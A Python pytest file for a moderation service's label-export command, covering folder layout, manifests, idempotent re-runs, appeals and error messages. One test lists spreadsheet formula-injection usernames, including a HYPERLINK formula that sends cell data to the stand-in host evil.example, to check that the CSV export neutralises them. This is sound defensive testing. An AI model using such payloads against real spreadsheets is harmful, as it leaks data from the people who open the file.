"""`contentguard export-labels`, run as a real process on SQLite and PostgreSQL databases holding
items moderated (by the dummy detectors: what is exported does not depend on the models) and
decided through the review queue."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from helpers.accounts import make_user
from helpers.samples import image_bytes
from PIL import Image
from sqlalchemy import delete

from contentguard.schemas import ModerationResult
from contentguard.store import appeals, decisions, review
from contentguard.store.db import Database
from contentguard.store.decisions import Requester, Retention
from contentguard.store.tables import StoredMedia, User

CLI = Path(sys.executable).parent / "contentguard"
KEEP = Retention(media_days=1)


def jpeg_bytes() -> bytes:
    out = io.BytesIO()
    Image.open(io.BytesIO(image_bytes(7))).convert("RGB").save(out, "JPEG")
    return out.getvalue()


def run(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "CONTENTGUARD_DATA_HOME": str(tmp_path / "home"), "NO_COLOR": "1"}
    env.pop("CONTENTGUARD_DATABASE_URL", None)
    return subprocess.run([str(CLI), "export-labels", *args], capture_output=True, text=True,
                          env=env, timeout=120)


def files(root: Path) -> set[str]:
    return {p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file()}


def manifest(root: Path) -> list[dict]:
    return [json.loads(line) for line in (root / "manifest.jsonl").read_text().splitlines()]


class Reviewed:
    """Items stored as the service stores them, then decided by `alice` through the queue."""

    def __init__(self, db: Database) -> None:
        self.db = db
        self.alice = review.Reviewer(make_user(db, "alice"), "user:alice")

    def store(self, result: ModerationResult, media: bytes | None = None,
              text: str | None = None) -> str:
        with self.db.session() as session:
            row = decisions.save(session, result, Requester(), KEEP, media=media, text=text,
                                 origin="review")
            return row.id

    def decide(self, verdict: str, reason: str) -> None:
        with self.db.session() as session:
            item = review.claim_next(session, self.alice, 60)
            assert item is not None
            review.decide(session, item.id, self.alice, verdict, reason, "exported")


@pytest.fixture
def reviewed(db: Database, dummy_moderator, dummy_text_moderator):  # type: ignore[no-untyped-def]
    """Four decided items with media (two PNGs, a JPEG, a text), one decided whose media was
    purged, one still waiting."""
    r = Reviewed(db)
    ids = {}
    for name, data in (("allowed.png", image_bytes(1)), ("blocked.png", image_bytes(2)),
                       ("blocked.jpg", jpeg_bytes()), ("purged.png", image_bytes(3))):
        result = dummy_moderator.moderate(data, name)
        assert isinstance(result, ModerationResult)
        ids[name] = (r.store(result, media=data), result.id, data, result.decision)
    (text,) = dummy_text_moderator.moderate_many([("t", "you are a damn idiot")])
    ids["text"] = (r.store(text, text="you are a damn idiot"), text.id, b"you are a damn idiot",
                   text.decision)
    r.store(dummy_moderator.moderate(image_bytes(4), "waiting.png"), media=image_bytes(4))
    r.decide("approve", "no_violation")
    r.decide("reject", "sexual_explicit")
    r.decide("reject", "other")
    r.decide("reject", "nudity_exposed")  # purged.png
    r.decide("reject", "profanity")  # the text
    with db.session() as session:
        session.execute(delete(StoredMedia).where(StoredMedia.decision_id == ids["purged.png"][0]))
    return r, ids


def test_export_writes_classes_files_and_a_manifest_and_is_idempotent(
        reviewed, db: Database, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    r, ids = reviewed
    out = tmp_path / "labels"
    done = run(tmp_path, "--out", str(out), "--database-url", db.url)
    assert done.returncode == 0, done.stderr
    assert "4 items" in done.stderr and "1 reviewed without stored media" in done.stderr
    sha = {name: content for name, (_, content, _, _) in ids.items()}
    machine = {content: made for _, content, _, made in ids.values()}
    expected = {f"image/allow/{sha['allowed.png']}.png", f"image/block/{sha['blocked.png']}.png",
                f"image/block/{sha['blocked.jpg']}.jpg", f"text/block/{sha['text']}.txt",
                "manifest.jsonl", "manifest.csv"}
    assert files(out) == expected
    for name in ("allowed.png", "blocked.png", "blocked.jpg", "text"):
        written = next(out.rglob(f"{sha[name]}.*")).read_bytes()
        assert written == ids[name][2]
        assert hashlib.sha256(written).hexdigest() == sha[name]
    rows = manifest(out)
    assert len(rows) == 4 and {row["id"] for row in rows} == {sha[n] for n in ("allowed.png", "blocked.png",
                                                                               "blocked.jpg", "text")}
    for row in rows:
        assert row["sha256"] == row["id"] and (out / row["path"]).is_file()
        assert row["reviewer"] == "alice" and row["reviewed_at"].startswith("20")
        assert row["label"] == row["decision"] and row["machine_decision"] == machine[row["id"]]
    with (out / "manifest.csv").open(newline="") as handle:
        assert [dict(r) for r in csv.DictReader(handle)] == [
            {k: "" if v is None else str(v) for k, v in row.items()} for row in rows]

    before = (out / "manifest.jsonl").read_bytes()
    again = run(tmp_path, "--out", str(out), "--database-url", db.url)
    assert again.returncode == 0 and "0 written, 4 unchanged" in again.stderr
    assert files(out) == expected and (out / "manifest.jsonl").read_bytes() == before

    # An appeal overturns the PNG block: the next export moves it; nothing is duplicated.
    with db.session() as session:
        appeals.create(session, ids["blocked.png"][0], None, "not explicit", "test")
    r.decide("approve", "no_violation")
    moved = run(tmp_path, "--out", str(out), "--database-url", db.url)
    assert moved.returncode == 0 and "1 relabelled" in moved.stderr
    assert f"image/allow/{sha['blocked.png']}.png" in files(out)
    assert f"image/block/{sha['blocked.png']}.png" not in files(out)
    assert len(manifest(out)) == 4

    by_reason = tmp_path / "by-reason"
    done = run(tmp_path, "--out", str(by_reason), "--classes", "reason", "--database-url", db.url)
    assert done.returncode == 0, done.stderr
    assert files(by_reason) >= {f"image/other/{sha['blocked.jpg']}.jpg",
                                f"text/profanity/{sha['text']}.txt",
                                f"image/allow/{sha['allowed.png']}.png"}
    future = tmp_path / "none"
    done = run(tmp_path, "--out", str(future), "--since", "2999-01-01", "--database-url", db.url)
    assert done.returncode == 0 and manifest(future) == []


def test_export_errors_are_clear(tmp_path: Path) -> None:
    """In-process (typer's runner): bad options and a bad database or folder give a message and
    exit 2 (usage) or 1 (the database), never a traceback."""
    from typer.testing import CliRunner

    from contentguard.cli import app

    ready = Database(f"sqlite:///{tmp_path / 'ready.db'}")
    ready.upgrade()
    ready.close()
    runner = CliRunner()

    def export(*args: str):  # type: ignore[no-untyped-def]
        return runner.invoke(app, ["export-labels", *args])

    a_file = tmp_path / "file.txt"
    a_file.write_text("x")
    done = export("--out", str(a_file), "--database-url", ready.url)
    assert done.exit_code == 2 and "not a folder" in done.stderr
    done = export("--out", str(tmp_path / "o"), "--classes", "colour", "--database-url", ready.url)
    assert done.exit_code == 2 and "--classes must be one of" in done.stderr
    done = export("--out", str(tmp_path / "o"), "--database-url", f"sqlite:///{tmp_path / 'empty.db'}")
    assert done.exit_code == 1 and "contentguard db upgrade" in done.stderr
    done = export("--out", str(tmp_path / "o"), "--database-url", "nonsense://")
    assert done.exit_code in (1, 2) and "error:" in done.stderr
    broken = tmp_path / "broken"
    broken.mkdir()
    (broken / "manifest.jsonl").write_text("{not json\n")
    done = export("--out", str(broken), "--database-url", ready.url)
    assert done.exit_code == 2 and "manifest.jsonl:1" in done.stderr
    done = export("--out", str(tmp_path / "o"), "--since", "yesterday", "--database-url", ready.url)
    assert done.exit_code == 2 and "yesterday" in done.stderr


FORMULA_NAMES = ["-1-1", "@A1", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "\tname"]


def test_reviewer_names_in_the_csv_manifest_open_as_text_in_a_spreadsheet(
        db: Database, dummy_text_moderator, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """Reviewers whose names a spreadsheet would evaluate (`-1-1`, `@A1` pass the username rule;
    the others are refused by it, so they are written to the users table as an older version or
    a direct import could have) each decide one text; their cells get a leading `'`."""
    allowed = {name: make_user(db, name) for name in FORMULA_NAMES[:2]}
    with db.session() as session:
        for name in FORMULA_NAMES[2:]:
            user = User(username=name, password_hash="-", role="moderator", active=True)
            session.add(user)
            session.flush()
            allowed[name] = user.id
    texts = [(f"t{i}", f"review me please, item {i}") for i in range(len(FORMULA_NAMES))]
    r = Reviewed(db)
    for (_, text), result in zip(texts, dummy_text_moderator.moderate_many(texts), strict=True):
        r.store(result, text=text)
    for name in FORMULA_NAMES:
        with db.session() as session:
            reviewer = review.Reviewer(allowed[name], f"user:{name}")
            item = review.claim_next(session, reviewer, 60)
            assert item is not None
            review.decide(session, item.id, reviewer, "approve", "no_violation", "")

    out = tmp_path / "labels"
    done = run(tmp_path, "--out", str(out), "--database-url", db.url)
    assert done.returncode == 0, done.stderr
    with (out / "manifest.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert sorted(row["reviewer"] for row in rows) == sorted("'" + name for name in FORMULA_NAMES)
    assert "'-1-1" in {row["reviewer"] for row in rows}
    raw = (out / "manifest.csv").read_text(encoding="utf-8")
    assert all(line.startswith('"') for line in raw.splitlines() if line)  # every cell quoted
    # The JSON manifest (the training input) keeps the names exactly.
    assert sorted(row["reviewer"] for row in manifest(out)) == sorted(FORMULA_NAMES)
